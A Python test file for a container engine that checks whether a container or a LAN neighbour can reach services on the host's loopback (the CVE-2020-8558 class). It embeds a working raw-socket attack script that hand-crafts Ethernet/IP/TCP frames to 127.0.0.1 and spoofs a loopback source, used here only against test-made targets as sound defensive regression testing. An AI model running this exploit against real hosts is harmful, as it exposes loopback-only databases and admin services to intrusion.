"""The CVE-2020-8558 class: the host's loopback reached from outside the host.

Our bridges have route_localnet on (host processes reach published ports on 127.0.0.1 through DNAT to a bridge),
and that sysctl also lets the kernel accept packets *addressed to* 127.0.0.0/8 when they arrive on the bridge, and
packets *from* a loopback address. A container with CAP_NET_RAW (in docker's default set) hand-builds frames to the
gateway's MAC with an IPv4 destination of 127.0.0.1 (or any 127/8 address): without a rule against it they reach
whatever the host binds to its loopback (databases, admin ports, metadata proxies), TCP handshake included. IPv6
::1 is tried too: the kernel itself drops it on any device but lo (RFC 4291 2.5.3), which this test keeps checking.
And a neighbor on the LAN sending to 127.0.0.1:PORT must not reach a container published on 127.0.0.1 only.

The attacker's frames prove they are well made (checksums, the MAC) by reaching a control address in the same
run; and a published port on 127.0.0.1 must keep working from the host through DNAT (not the monitor's userland
relay). Traffic goes only to the host's loopback, the containers' own addresses, the gateway address of the bridge
this test's engine made (the spoofed-source probe), and the host's end of a link to a namespace made here.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys

from conftest import ok, wait_for
from netns import lan_host

from tuiker.engine import Engine

# A TCP server on port 80 answering each connection with the peer address it sees ("ip:port"), and closing.
SERVER = r"""
import _socket
s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
s.setsockopt(_socket.SOL_SOCKET, _socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 80))
s.listen(16)
while True:
    fd, peer = s._accept()
    c = _socket.socket(fileno=fd)
    c.sendall(("%s:%d\n" % peer).encode())
    c.close()
"""

# The attacker, on its eth0: argv = the MAC to send to (the gateway's, or the host's on a link), its own IPv4, a
# control address and TCP port the frames may reach, then "NAME,PROTO,ADDRESS,PORT,SOURCE" targets on the host
# (SOURCE: a spoofed IPv4 source, or empty for its own address). Frames are hand-built (Ethernet, IPv4/IPv6,
# UDP/TCP with their checksums) and sent on an AF_PACKET socket; the same socket watches for answers. A SYN-ACK
# from a target is completed with an ACK carrying data, so that the host listener's accept() would return.
# Prints the names of the probes that drew an answer. It needs nothing but _socket (the python_image).
ATTACK = r"""
import _socket, os, sys, time
gw_mac = bytes.fromhex(sys.argv[1].replace(":", ""))
me4, other, other_port = _socket.inet_aton(sys.argv[2]), _socket.inet_aton(sys.argv[3]), int(sys.argv[4])
me6 = bytes(16)
for line in open("/proc/net/if_inet6"):
    if line.split()[-1] == "eth0" and line.startswith("fe80"):
        me6 = bytes.fromhex(line[:32])

def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(int.from_bytes(data[i:i + 2], "big") for i in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

def packet(src, dst, proto, segment, at):
    seg = bytearray(segment)
    if len(src) == 4:
        pseudo = src + dst + bytes([0, proto]) + len(seg).to_bytes(2, "big")
    else:
        pseudo = src + dst + len(seg).to_bytes(4, "big") + bytes([0, 0, 0, proto])
    seg[at:at + 2] = (checksum(pseudo + bytes(seg)) or 0xFFFF).to_bytes(2, "big")
    if len(src) == 16:
        header = b"\x60\0\0\0" + len(seg).to_bytes(2, "big") + bytes([proto, 64]) + src + dst
        return gw_mac + my_mac + b"\x86\xdd" + header + seg
    header = bytearray(b"\x45\0" + (20 + len(seg)).to_bytes(2, "big") + os.urandom(2) + b"\x40\0"
                       + bytes([64, proto]) + b"\0\0" + src + dst)
    header[10:12] = checksum(bytes(header)).to_bytes(2, "big")
    return gw_mac + my_mac + b"\x08\x00" + bytes(header) + seg

def udp(src, dst, sport, dport, data):
    return packet(src, dst, 17, sport.to_bytes(2, "big") + dport.to_bytes(2, "big")
                  + (8 + len(data)).to_bytes(2, "big") + b"\0\0" + data, 6)

def tcp(src, dst, sport, dport, seq, ack, flags, data=b""):
    return packet(src, dst, 6, sport.to_bytes(2, "big") + dport.to_bytes(2, "big") + seq.to_bytes(4, "big")
                  + ack.to_bytes(4, "big") + bytes([5 << 4, flags]) + b"\xff\xff\0\0\0\0" + data, 16)

SYN, ACK, PSH = 0x02, 0x10, 0x08
s = _socket.socket(_socket.AF_PACKET, _socket.SOCK_RAW, _socket.htons(3))
s.bind(("eth0", 3))
my_mac = s.getsockname()[4]  # eth0's own address
waiting = {}  # (source address, source port, our port) -> name of the probe a SYN-ACK answers
sport = 40000
for target in sys.argv[5:]:
    name, proto, address, port, source = target.split(",")
    dst = _socket.inet_pton(_socket.AF_INET6 if ":" in address else _socket.AF_INET, address)
    src = _socket.inet_aton(source) if source else me6 if len(dst) == 16 else me4
    sport += 1
    if proto == "udp":
        s.send(udp(src, dst, sport, int(port), b"from-a-container"))
    else:
        waiting[(dst, int(port), sport)] = name
        s.send(tcp(src, dst, sport, int(port), 1000, 0, SYN))
# Controls, sent last, to an address the frames may reach: a UDP datagram to a closed port draws an ICMP port
# unreachable (sent only once the checksum checked out), a SYN to a listening port a SYN-ACK.
s.send(udp(me4, other, 40100, 9, b"control"))
waiting[(other, other_port, 40101)] = "control-tcp"
s.send(tcp(me4, other, 40101, other_port, 1000, 0, SYN))
seen, grace = set(), None
deadline = time.monotonic() + 10
s.settimeout(0.2)
while time.monotonic() < (grace or deadline):
    try:
        frame, where = s.recvfrom(65536)
    except OSError:
        continue
    if where[2] == 4:  # our own outgoing frames
        continue
    if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\x01" and frame[38:42] == me4:
        # An ARP who-has for us: answer it ourselves, as the host asks "tell 127.0.0.1" before sending a reply
        # from its loopback, and our own kernel ignores a request from a loopback address.
        s.send(frame[22:28] + my_mac + b"\x08\x06" + frame[14:20] + b"\0\x02" + my_mac + me4 + frame[22:32])
        continue
    if frame[12:14] != b"\x08\x00":
        continue
    ip = frame[14:]
    proto, src, body = ip[9], ip[12:16], ip[(ip[0] & 15) * 4:]
    if proto == 1 and body[0] == 3 and body[1] == 3 and src == other:
        seen.add("control-udp")
    if proto == 6 and body[13] & (SYN | ACK) == SYN | ACK:
        key = (src, int.from_bytes(body[0:2], "big"), int.from_bytes(body[2:4], "big"))
        name = waiting.get(key)
        if name and name not in seen:
            seen.add(name)
            if name != "control-tcp":
                peer_seq = int.from_bytes(body[4:8], "big")
                s.send(tcp(me4, src, key[2], key[1], 1001, peer_seq + 1, ACK | PSH, b"from-a-container"))
    if grace is None and {"control-udp", "control-tcp"} <= seen:
        grace = time.monotonic() + 0.5  # answers from the host's loopback, sent to first, came before
for name in sorted(seen):
    print(name)
"""


def gateway_of(tuiker) -> tuple[str, str]:
    """The default network's bridge gateway: its IPv4 address and its MAC address (read on the host)."""
    (net,) = json.loads(ok(tuiker("network", "inspect", "bridge")))
    bridge = net["Options"]["com.docker.network.bridge.name"]
    with open(f"/sys/class/net/{bridge}/address") as f:
        return net["IPAM"]["Config"][0]["Gateway"], f.read().strip()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def ask_published(port: int) -> tuple[int, str]:
    """Connect to 127.0.0.1:port; our own source port, and what the server says it sees ("" if nothing)."""
    with socket.socket() as s:
        s.settimeout(3)
        try:
            s.connect(("127.0.0.1", port))
            return s.getsockname()[1], b"".join(iter(lambda: s.recv(4096), b"")).decode()
        except OSError:
            return 0, ""


def listen(family: int, kind: int, address: str) -> socket.socket:
    s = socket.socket(family, kind)
    s.bind((address, 0))
    if kind == socket.SOCK_STREAM:
        s.listen()
    s.setblocking(False)
    return s


def test_a_container_cannot_reach_services_on_the_hosts_loopback(tuiker, engine_root, python_image):
    Engine(engine_root).images.pull(python_image)
    host_port = free_port()
    ok(tuiker("run", "-d", "--name", "web", "-p", f"127.0.0.1:{host_port}:80", python_image, "python", "-c", SERVER))
    ok(tuiker("run", "-d", "--name", "attacker", python_image, "sleep", "600"))
    gateway, gateway_mac = gateway_of(tuiker)
    web = ok(tuiker("inspect", "-f", "{{.NetworkSettings.IPAddress}}", "web")).strip()
    attacker = ok(tuiker("inspect", "-f", "{{.NetworkSettings.IPAddress}}", "attacker")).strip()
    # What the container aims at: name -> (the host's listener, protocol, destination, spoofed source or "").
    # All of 127.0.0.0/8 is the host's loopback (127.0.0.2 as well); ::1 the kernel refuses on its own. The last
    # one is the other half of what route_localnet opens: a loopback *source*, as a service on another host
    # address might trust it; it goes to the gateway of the bridge this test's engine made, and nowhere else.
    probes = {"loopback-udp": (listen(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1"), "udp", "127.0.0.1", ""),
              "loopback-tcp": (listen(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1"), "tcp", "127.0.0.1", ""),
              "loopback-8-udp": (listen(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.2"), "udp", "127.0.0.2", ""),
              "ipv6-loopback-udp": (listen(socket.AF_INET6, socket.SOCK_DGRAM, "::1"), "udp", "::1", ""),
              "loopback-source-udp": (listen(socket.AF_INET, socket.SOCK_DGRAM, gateway), "udp", gateway,
                                      "127.0.0.2")}
    try:
        targets = [f"{name},{proto},{address},{s.getsockname()[1]},{source}"
                   for name, (s, proto, address, source) in probes.items()]
        seen = ok(tuiker("exec", "attacker", "python", "-c", ATTACK, gateway_mac, attacker, web, "80",
                         *targets)).split()
        # The frames were right and the gateway routed them: the other container answered both controls.
        assert {"control-udp", "control-tcp"} <= set(seen), seen
        breaches = [f"{name}: a SYN-ACK came back" for name in seen if not name.startswith("control")]
        for name, (s, _proto, address, _source) in probes.items():
            try:
                if s.type == socket.SOCK_STREAM:
                    conn, peer = s.accept()
                    conn.close()
                    got = f"a connection from {peer}"
                else:
                    data, peer = s.recvfrom(4096)
                    got = f"{data!r} from {peer}"
            except BlockingIOError:
                continue
            breaches.append(f"{name}: the host's listener on {address} got {got}")
        assert not breaches, "a container reached the host's loopback: " + "; ".join(breaches)
    finally:
        for s, *_rest in probes.values():
            s.close()

    # Published on 127.0.0.1, still reached from the host, through DNAT with the loopback source masqueraded to
    # the gateway: the server sees our own source port (the monitor's relay would connect from another one).
    local_port, answer = wait_for(lambda: (r := ask_published(host_port))[1] and r, 10, "the published port")
    assert answer.strip() == f"{gateway}:{local_port}", answer
    ok(tuiker("rm", "-f", "web", "attacker"))


# The link to the neighbor, in TEST-NET-3 (documentation only, never routed).
HOST, NEIGHBOR = "203.0.113.249", "203.0.113.250"  # TEST-NET-3: documentation only, never routed


def test_a_neighbor_cannot_reach_a_port_published_on_the_hosts_loopback(tuiker, engine_root, python_image):
    """CVE-2020-8558 itself (docker's moby#41872): another host on the LAN sends to 127.0.0.1:PORT with this host's
    MAC. The kernel drops that as a martian on an interface without route_localnet, but only after prerouting,
    where a DNAT to the container published on 127.0.0.1 would already have taken it: "127.0.0.1 only" would
    mean "and the LAN". The same container published on all addresses is the neighbor's control."""
    Engine(engine_root).images.pull(python_image)
    local_port, any_port = free_port(), free_port()
    ok(tuiker("run", "-d", "--name", "web", "-p", f"127.0.0.1:{local_port}:80", "-p", f"{any_port}:80",
              python_image, "python", "-c", SERVER))
    wait_for(lambda: ask_published(local_port)[1], 10, "the published port")
    with lan_host(HOST, NEIGHBOR, link_prefix="tktl") as (inside, host_mac):
        seen = ok(subprocess.run([*inside, sys.executable, "-c", ATTACK, host_mac, NEIGHBOR, HOST, str(any_port),
                                  f"published-on-loopback,tcp,127.0.0.1,{local_port},"],
                                 capture_output=True, text=True, timeout=60)).split()
    assert {"control-udp", "control-tcp"} <= set(seen), seen
    assert "published-on-loopback" not in seen, "a neighbor reached the port published on 127.0.0.1"
    ok(tuiker("rm", "-f", "web"))
